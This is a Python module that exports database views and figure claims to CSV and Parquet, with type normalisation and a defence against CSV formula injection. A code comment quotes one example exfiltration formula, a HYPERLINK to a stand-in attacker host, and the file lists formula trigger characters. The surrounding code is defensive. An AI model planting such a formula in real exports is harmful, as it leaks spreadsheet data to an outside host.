"""`optally export`: the stable views and the claims behind them, one file per view.

CSV is for spreadsheets (whole numbers without ".0", ISO dates, empty for null), and
scraped text in it is made safe to open in one (``csv_cell``, OWASP "CSV Injection");
Parquet keeps a fixed schema per file (integers, float64 figures, date32 dates,
booleans) so a notebook reading two exports gets the same column types.
"""

from __future__ import annotations

import csv
from collections.abc import Mapping, Sequence
from datetime import date, datetime
from pathlib import Path
from typing import Any, Literal

import pandas as pd
import pyarrow as pa
from sqlalchemy import Engine

from db.report_queries import EXPORT_VIEWS, figure_claims, view_rows

Format = Literal["csv", "parquet"]
FORMATS: tuple[str, ...] = ("csv", "parquet")
CLAIMS_NAME = "figure_claims"
EXPORT_NAMES: tuple[str, ...] = (*EXPORT_VIEWS, CLAIMS_NAME)

_INT = {"operation_id", "sources", "figure_id", "article_id", "span_start", "span_end"}
_DATE = {"start_date", "end_date", "first_published", "published"}
_BOOL = {"official", "current", "reconciled"}
_TEXT = {
    "name",
    "lead_agency",
    "theme",
    "title",
    "url",
    "article_title",
    "publisher",
    "scope",
    "metric",
    "subject",
    "qualifier",
    "evidence",
    "parser_version",
}


def _arrow_type(column: str) -> pa.DataType:
    if column in _INT:
        return pa.int64()
    if column in _DATE:
        return pa.date32()
    if column in _BOOL:
        return pa.bool_()
    if column in _TEXT:
        return pa.string()
    return pa.float64()  # every other view column is a figure or a derived metric


def _to_date(v: Any) -> date | None:
    # SQLite hands views' dates back as text, PostgreSQL as dates.
    if v is None or v == "":
        return None
    if isinstance(v, datetime):
        return v.date()
    if isinstance(v, date):
        return v
    return date.fromisoformat(str(v)[:10])


def normalise(column: str, value: Any) -> Any:
    """One value as the same Python type on SQLite and PostgreSQL."""
    if value is None:
        return None
    if column in _DATE:
        return _to_date(value)
    if column in _BOOL:
        return bool(value)
    if column in _INT:
        return int(value)
    if column in _TEXT:
        return str(value)
    return float(value)


# A spreadsheet reads a cell as a formula when it begins with one of these (OWASP "CSV
# Injection"): "=", "+", "-", "@", a tab or a carriage return. A scraped title such as
# '=HYPERLINK("http://evil.example/?"&A1,"open")' would run in whoever opens the export.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Spreadsheets skip leading spaces and quotes before looking for a formula (OWASP's
# '"=1+2";=1+2' example), so a trigger behind any of these counts as leading too.
_SKIPPED_BEFORE_FORMULA = " \t\r\n\"'"
# With QUOTE_NONNUMERIC every text cell is quoted and numbers are not, so a neutralised
# cell cannot be split by a separator inside it, and a spreadsheet still sees numbers.
CSV_QUOTING = csv.QUOTE_NONNUMERIC


def csv_cell(value: Any) -> Any:
    """``value`` as a CSV cell a spreadsheet will not evaluate.

    Text that a spreadsheet would take for a formula gets a leading single quote, which
    marks a cell as text (OWASP "CSV Injection"). Numbers are returned as they are, so a
    negative figure (-3) stays a number; so are None and text that is no formula. Shared
    by `optally export` and `optally metrics --format csv`; write with ``CSV_QUOTING``.
    """
    if not isinstance(value, str):
        return value
    looks_past = value.lstrip(_SKIPPED_BEFORE_FORMULA)
    if value.startswith(FORMULA_TRIGGERS) or looks_past.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def _csv_value(column: str, value: Any) -> Any:
    if value is None:
        return None
    if isinstance(value, date):
        return value.isoformat()
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, float) and value.is_integer():
        return int(value)  # "38", not "38.0": the figures are counts
    return csv_cell(value)


def export_tables(engine: Engine) -> dict[str, tuple[list[str], list[dict[str, Any]]]]:
    """name -> (columns, normalised rows) for every exported view and the claims."""
    out: dict[str, tuple[list[str], list[dict[str, Any]]]] = {}
    for view in EXPORT_VIEWS:
        out[view] = _normalised(*view_rows(engine, view))
    out[CLAIMS_NAME] = _normalised(*figure_claims(engine))
    return out


def _normalised(
    columns: list[str], rows: Sequence[Mapping[str, Any]]
) -> tuple[list[str], list[dict[str, Any]]]:
    return columns, [{c: normalise(c, r[c]) for c in columns} for r in rows]


def write_frame(
    name: str, columns: Sequence[str], rows: Sequence[Mapping[str, Any]], out_dir: Path, fmt: Format
) -> Path:
    path = out_dir / f"{name}.{fmt}"
    if fmt == "csv":
        frame = pd.DataFrame(
            {c: pd.Series([_csv_value(c, r[c]) for r in rows], dtype=object) for c in columns},
            columns=list(columns),
        )
        frame.to_csv(path, index=False, lineterminator="\n", encoding="utf-8", quoting=CSV_QUOTING)
    else:
        frame = pd.DataFrame(
            {c: pd.Series([r[c] for r in rows], dtype=object) for c in columns},
            columns=list(columns),
        )
        schema = pa.schema([(c, _arrow_type(c)) for c in columns])
        frame.to_parquet(path, engine="pyarrow", index=False, schema=schema)
    return path


def export_all(engine: Engine, out_dir: str | Path, fmt: Format) -> list[Path]:
    """Write every view and the claims into ``out_dir`` (created if needed); the paths written."""
    if fmt not in FORMATS:
        raise ValueError(f"unknown export format {fmt!r} (expected csv or parquet)")
    directory = Path(out_dir)
    directory.mkdir(parents=True, exist_ok=True)
    return [
        write_frame(name, columns, rows, directory, fmt)
        for name, (columns, rows) in export_tables(engine).items()
    ]
